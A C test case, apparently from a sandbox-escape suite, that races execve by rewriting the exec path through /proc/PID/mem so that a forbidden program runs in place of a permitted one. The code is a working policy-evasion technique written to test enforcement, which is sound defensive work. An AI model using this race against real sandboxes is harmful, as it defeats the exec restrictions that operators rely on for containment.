// escape: another process writes the path through /proc/PID/mem
// group: argument races
// policy: exec-proc-writes
// attempts: 1500
#include "escape.h"

static char path[] = "/tmp/a";

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
  static char* arguments[] = {"prog", NULL};
  char memory_path[64];
  snprintf(memory_path, sizeof memory_path, "/proc/%d/mem", getpid());
  if (beside()) {
    const int memory = open(memory_path, O_RDWR);
    if (memory < 0) broken(memory_path);
    for (int i = 0;; i = !i) pwrite(memory, i ? "a" : "b", 1, (off_t)(uintptr_t)(path + 5));
  }
  while (more()) {
    const pid_t child = vfork();
    if (child == 0) {
      syscall(SYS_execve, path, arguments, no_environment);
      _exit(1);
    }
    waitpid(child, NULL, 0);
  }
}
